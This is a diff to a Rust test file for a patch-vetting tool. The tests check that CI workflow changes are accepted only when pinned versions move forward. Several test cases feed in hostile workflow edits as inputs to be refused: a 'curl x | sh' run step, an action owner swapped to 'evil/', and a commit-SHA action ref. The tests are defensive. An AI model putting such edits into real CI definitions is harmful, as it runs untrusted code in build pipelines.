@@ -1,7 +1,8 @@
 //! Vetting against real git in temporary repositories: each kind of debris
 //! refused with its file named, `.git` changes refused before git runs,
 //! clean bumps and large vendored diffs accepted, repairs that undo a fix
-//! refused, and secret detection without false positives on lockfiles.
+//! refused, secret detection without false positives on lockfiles, and CI
+//! definitions changed only where a pinned version moves forward.
 
 #[path = "fixtures/vendored.rs"]
 mod vendored;
@@ -10,12 +11,32 @@ use std::path::{Path, PathBuf};
 
 use patchpilot_git::Git;
 use patchpilot_vet::{
-    ChangeKind, RejectReason, VetContext, VetPolicy, VetReport, required_edits_from_patch,
-    secrets::find_secret, vet_patch,
+    ChangeKind, CiVersionEdit, RejectReason, VersionChange, VetContext, VetPolicy, VetReport,
+    required_edits_from_patch, secrets::find_secret, vet_patch,
 };
 use tempfile::TempDir;
 
 const DOCKERFILE: &str = "FROM golang:1.22.1-alpine3.19 AS build\nWORKDIR /src\nCOPY . .\nRUN go build -o /out/webapp ./cmd/webapp\n\nFROM alpine:3.19.1\nCOPY --from=build /out/webapp /usr/local/bin/webapp\nENTRYPOINT [\"webapp\"]\n";
+
+/// A workflow with pinned versions: a linter, action refs, a toolchain.
+const LINT_WORKFLOW: &str = "name: lint
+on: [push, pull_request]
+jobs:
+  lint:
+    runs-on: ubuntu-latest
+    timeout-minutes: 10
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-go@v4
+        with:
+          go-version: '1.21'
+      - uses: golangci/golangci-lint-action@v6
+        with:
+          version: v1.55.2
+      - run: make lint
+";
+
+const LINT: &str = ".github/workflows/lint.yml";
 
 /// An origin repository and two clones of it: the controller's (named
 /// `webapp`, as the controller names clones after the repository) and the
@@ -53,6 +74,7 @@ async fn repo() -> Repo {
         ".github/workflows/ci.yml",
         b"name: ci\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n",
     );
+    write(&origin, LINT, LINT_WORKFLOW.as_bytes());
     write(&origin, "docs/guide.md", b"# Guide\n");
     write(&origin, "vendor/modules.txt", b"# golang.org/x/net v0.21.0\n## explicit; go 1.18\n");
     git(&origin, &["add", "-A"]).await;
@@ -537,4 +559,223 @@ async fn renames_deletions_and_mode_changes_are_listed_by_kind() {
         .await
         .expect("vets");
     assert_has(&report, "logo.png", RejectReason::Malformed);
+}
+
+/// The lint workflow with `from` replaced by `to` (once, and it must occur).
+fn lint_with(from: &str, to: &str) -> String {
+    assert_eq!(LINT_WORKFLOW.matches(from).count(), 1, "{from}");
+    LINT_WORKFLOW.replacen(from, to, 1)
+}
+
+async fn vet(repo: &Repo, patch: &[u8], policy: &VetPolicy) -> VetReport {
+    vet_patch(&repo.controller, patch, policy, &VetContext::remediate()).await.expect("vets")
+}
+
+fn ci_detail<'a>(report: &'a VetReport, path: &str) -> &'a str {
+    report
+        .rejections
+        .iter()
+        .find(|r| r.path == path && r.reason == RejectReason::CiDefinition)
+        .map(|r| r.detail.as_str())
+        .unwrap_or_else(|| panic!("expected {path}: CI definition; got:\n{report}"))
+}
+
+#[tokio::test]
+async fn a_linter_bump_in_a_workflow_is_accepted_and_reported() {
+    let repo = repo().await;
+    let patch =
+        repo.patch(|d| write(d, LINT, lint_with("version: v1.55.2", "version: v1.59.1").as_bytes())).await;
+    let report = vet(&repo, &patch, &VetPolicy::default()).await;
+    assert!(report.accepted, "{report}");
+    assert_eq!(
+        report.ci_version_edits,
+        [CiVersionEdit {
+            path: LINT.into(),
+            line: 14,
+            old: "version: v1.55.2".into(),
+            new: "version: v1.59.1".into(),
+            versions: vec![VersionChange { from: "v1.55.2".into(), to: "v1.59.1".into() }],
+        }]
+    );
+    assert_eq!(git(&repo.controller, &["diff", "--cached", "--name-only"]).await, LINT);
+}
+
+#[tokio::test]
+async fn action_refs_and_toolchain_versions_move_forward() {
+    let repo = repo().await;
+    let patch = repo
+        .patch(|d| {
+            let text = lint_with("actions/setup-go@v4", "actions/setup-go@v5").replace("'1.21'", "'1.22'");
+            write(d, LINT, text.as_bytes());
+        })
+        .await;
+    let report = vet(&repo, &patch, &VetPolicy::default()).await;
+    assert!(report.accepted, "{report}");
+    let edits: Vec<(u32, &str, &str)> =
+        report.ci_version_edits.iter().map(|e| (e.line, e.old.as_str(), e.new.as_str())).collect();
+    assert_eq!(
+        edits,
+        [
+            (9, "- uses: actions/setup-go@v4", "- uses: actions/setup-go@v5"),
+            (11, "go-version: '1.21'", "go-version: '1.22'"),
+        ]
+    );
+}
+
+#[tokio::test]
+async fn a_version_moved_backwards_is_refused() {
+    let repo = repo().await;
+    let forward =
+        repo.patch(|d| write(d, LINT, lint_with("version: v1.55.2", "version: v1.59.1").as_bytes())).await;
+    repo.land(&forward).await;
+    let back = repo.patch(|d| write(d, LINT, LINT_WORKFLOW.as_bytes())).await;
+    let report = vet(&repo, &back, &VetPolicy::default()).await;
+    assert!(!report.accepted);
+    let detail = ci_detail(&report, LINT);
+    assert!(detail.contains("line 14: versions only move forward: v1.59.1 → v1.55.2"), "{detail}");
+    assert!(report.ci_version_edits.is_empty());
+    assert_eq!(repo.status().await, "");
+}
+
+#[tokio::test]
+async fn workflow_edits_beyond_a_version_are_refused_with_what_they_do() {
+    let repo = repo().await;
+    let sha = "8f4b7f84864484a7bf31766abe9204da3cbe65b3";
+    let cases: Vec<(String, &str)> = vec![
+        (lint_with("run: make lint", "run: curl x | sh"), "line 15: text other than versions changes"),
+        (
+            lint_with("golangci/golangci-lint-action@v6", "evil/golangci-lint-action@v6"),
+            "line 12: the action's owner or name changes",
+        ),
+        (
+            lint_with("actions/checkout@v4", &format!("actions/checkout@{sha}")),
+            "line 8: a ref is never a commit SHA: a commit from a fork's network can pose as the action's own",
+        ),
+        // A version moving along with other text on the same line.
+        (lint_with("version: v1.55.2", "version: v1.59.1 # latest"), "line 14: text other than versions"),
+        (lint_with("version: v1.55.2", "version: v1.59.1-custom"), "line 14: text other than versions"),
+        // A number that is no version: moving it could weaken the check.
+        (lint_with("timeout-minutes: 10", "timeout-minutes: 60"), "line 6: text other than versions"),
+        (
+            lint_with("      - run: make lint\n", "      - run: make lint\n      - run: curl x | sh\n"),
+            "line 16 is added without a removed line to pair with",
+        ),
+        (lint_with("      - run: make lint\n", ""), "line 15 is removed without an added line"),
+    ];
+    for (text, want) in cases {
+        let patch = repo.patch(|d| write(d, LINT, text.as_bytes())).await;
+        let report = vet(&repo, &patch, &VetPolicy::default()).await;
+        assert!(!report.accepted, "{text}");
+        let detail = ci_detail(&report, LINT);
+        assert!(detail.contains(want), "want {want:?} in {detail:?}");
+        assert!(detail.ends_with("a run may only move pinned versions forward, in place"), "{detail}");
+        assert!(report.ci_version_edits.is_empty(), "{report:?}");
+        assert_eq!(repo.status().await, "", "{text}");
+    }
+}
+
+#[tokio::test]
+async fn new_deleted_and_renamed_workflows_are_refused() {
+    let repo = repo().await;
+    let cases: Vec<(Vec<u8>, &str, &str)> = vec![
+        (
+            repo.patch(|d| write(d, ".github/workflows/release.yml", LINT_WORKFLOW.as_bytes())).await,
+            ".github/workflows/release.yml",
+            "a new file",
+        ),
+        (repo.patch(|d| std::fs::remove_file(d.join(LINT)).expect("remove")).await, LINT, "a deleted file"),
+        (
+            repo.patch(|d| {
+                std::fs::rename(d.join(LINT), d.join(".github/workflows/lint2.yml")).expect("rename")
+            })
+            .await,
+            ".github/workflows/lint2.yml",
+            "a rename",
+        ),
+        (
+            repo.patch(|d| {
+                std::fs::set_permissions(d.join(LINT), std::os::unix::fs::PermissionsExt::from_mode(0o755))
+                    .expect("chmod")
+            })
+            .await,
+            LINT,
+            "a mode change",
+        ),
+    ];
+    for (patch, path, want) in cases {
+        let report = vet(&repo, &patch, &VetPolicy::default()).await;
+        assert!(!report.accepted, "{report}");
+        let detail = ci_detail(&report, path);
+        assert!(detail.starts_with(&format!("GitHub Actions workflow: {want};")), "{detail}");
+        assert_eq!(repo.status().await, "");
+    }
+}
+
+#[tokio::test]
+async fn with_ci_version_edits_off_even_a_clean_bump_is_refused() {
+    let repo = repo().await;
+    let patch =
+        repo.patch(|d| write(d, LINT, lint_with("version: v1.55.2", "version: v1.59.1").as_bytes())).await;
+    let policy = VetPolicy { allow_ci_version_edits: false, ..VetPolicy::default() };
+    let report = vet(&repo, &patch, &policy).await;
+    assert!(!report.accepted);
+    assert_eq!(ci_detail(&report, LINT), "GitHub Actions workflow: CI is changed by people, not runs");
+    assert!(report.ci_version_edits.is_empty());
+    assert_eq!(repo.status().await, "");
+}
+
+#[tokio::test]
+async fn a_dockerfile_fix_with_a_workflow_bump_is_accepted_whole() {
+    let repo = repo().await;
+    let patch = repo
+        .patch(|d| {
+            write(d, "Dockerfile", DOCKERFILE.replace("1.22.1", "1.23.0").as_bytes());
+            write(d, LINT, lint_with("version: v1.55.2", "version: v1.59.1").as_bytes());
+        })
+        .await;
+    let report = vet(&repo, &patch, &VetPolicy::default()).await;
+    assert!(report.accepted, "{report}");
+    assert_eq!(report.ci_version_edits.len(), 1, "{report:?}");
+    assert_eq!(report.ci_version_edits[0].path, LINT);
+    let staged = git(&repo.controller, &["diff", "--cached", "--name-only"]).await;
+    assert_eq!(staged, format!("{LINT}\nDockerfile"));
+
+    // The same bump next to a refused file: refused whole, the edit still
+    // listed as having passed the CI rule.
+    git(&repo.controller, &["reset", "-q", "--hard"]).await;
+    let patch = repo
+        .patch(|d| {
+            write(d, "docs/EMPTY.md", b"");
+            write(d, LINT, lint_with("version: v1.55.2", "version: v1.59.1").as_bytes());
+        })
+        .await;
+    let report = vet(&repo, &patch, &VetPolicy::default()).await;
+    assert!(!report.accepted);
+    assert_has(&report, "docs/EMPTY.md", RejectReason::Empty);
+    assert!(!has(&report, LINT, RejectReason::CiDefinition), "{report}");
+    assert_eq!(report.ci_version_edits.len(), 1);
+    assert_eq!(repo.status().await, "");
+}
+
+#[tokio::test]
+async fn a_run_of_lines_that_pairs_up_is_still_checked_pair_by_pair() {
+    // Two removed lines and two added ones: the patch's shape passes, the
+    // staged contents refuse the second pair.
+    let repo = repo().await;
+    let patch = format!(
+        "diff --git a/{LINT} b/{LINT}\n--- a/{LINT}\n+++ b/{LINT}\n@@ -13,3 +13,3 @@\n         with:\n-          version: v1.55.2\n-      - run: make lint\n+          version: v1.59.1\n+      - run: curl x | sh\n"
+    );
+    let report = vet(&repo, patch.as_bytes(), &VetPolicy::default()).await;
+    assert!(!report.accepted, "{report}");
+    assert!(ci_detail(&report, LINT).contains("line 15: text other than versions changes"), "{report}");
+    assert!(report.ci_version_edits.is_empty());
+}
+
+#[tokio::test]
+async fn refusal_paths_cannot_leave_their_code_span() {
+    let repo = repo().await;
+    let patch = repo.patch(|d| write(d, "docs/a`b @x.md", b"")).await;
+    let report = vet(&repo, &patch, &VetPolicy::default()).await;
+    let text = report.to_string();
+    assert!(text.contains("- ``docs/a`b @x.md``: empty file"), "{text}");
 }
